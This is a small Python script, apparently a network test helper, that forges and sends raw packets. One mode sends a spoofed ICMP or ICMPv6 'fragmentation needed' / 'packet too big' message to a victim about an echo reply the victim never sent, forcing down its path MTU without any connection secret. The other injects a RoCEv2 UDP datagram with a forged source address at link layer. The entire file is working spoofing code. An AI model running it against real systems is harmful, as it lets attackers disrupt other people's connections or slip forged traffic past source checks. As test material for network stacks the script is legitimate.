#!/usr/bin/python3 -B
# SPDX-License-Identifier: GPL-2.0
"""Send one forged packet.

usage: spoof.py too-big PEER VICTIM MTU
       spoof.py source SOURCE VICTIM NETDEV MAC

too-big: ICMP to VICTIM, "fragmentation needed" or "packet too big", about an echo reply that VICTIM never sent to
PEER. No secret of a connection is needed for that.

source: a datagram for RoCEv2, from SOURCE to VICTIM, by NETDEV to MAC.
"""

import ipaddress
import socket
import struct
import sys

from checksum import checksum


def echo_packet(kind):
    body = struct.pack(">BBHHH", kind, 0, 0, 1, 1) + bytes(8)
    return body[:2] + struct.pack(">H", checksum(body)) + body[4:]


def too_big(peer, victim, mtu):
    peer, victim = ipaddress.ip_address(peer), ipaddress.ip_address(victim)
    if victim.version == 4:
        echo = echo_packet(0)
        inner = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(echo), 1, 0x4000, 64, 1, 0, victim.packed, peer.packed)
        inner = inner[:10] + struct.pack(">H", checksum(inner)) + inner[12:] + echo
        icmp = struct.pack(">BBHHH", 3, 4, 0, 0, mtu) + inner
        icmp = icmp[:2] + struct.pack(">H", checksum(icmp)) + icmp[4:]
        family, proto = socket.AF_INET, socket.IPPROTO_ICMP
    else:
        echo = echo_packet(129)
        inner = struct.pack(">IHBB16s16s", 6 << 28, len(echo), 58, 64, victim.packed, peer.packed) + echo
        # The kernel fills in the checksum.
        icmp = struct.pack(">BBHI", 2, 0, 0, mtu) + inner
        family, proto = socket.AF_INET6, socket.IPPROTO_ICMPV6
    with socket.socket(family, socket.SOCK_RAW, proto) as raw:
        raw.sendto(icmp, (str(victim), 0))


def source(src, victim, netdev, mac):
    src, victim = ipaddress.ip_address(src), ipaddress.ip_address(victim)
    udp = struct.pack(">HHHH", 0xd000, 4791, 8 + 32, 0) + bytes(32)
    if victim.version == 4:
        ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0x4000, 64, 17, 0, src.packed, victim.packed)
        ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
        kind = 0x0800
    else:
        ip = struct.pack(">IHBB16s16s", 6 << 28, len(udp), 17, 64, src.packed, victim.packed)
        kind = 0x86dd
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((netdev, 0))
        raw.send(bytes.fromhex(mac.replace(":", "")) + b"\2\0\0\0\0\1" + struct.pack(">H", kind) + ip + udp)


def main():
    command, *arguments = sys.argv[1:]
    if command == "too-big" and len(arguments) == 3:
        too_big(arguments[0], arguments[1], int(arguments[2]))
    elif command == "source" and len(arguments) == 4:
        source(*arguments)
    else:
        sys.exit(__doc__)


main()
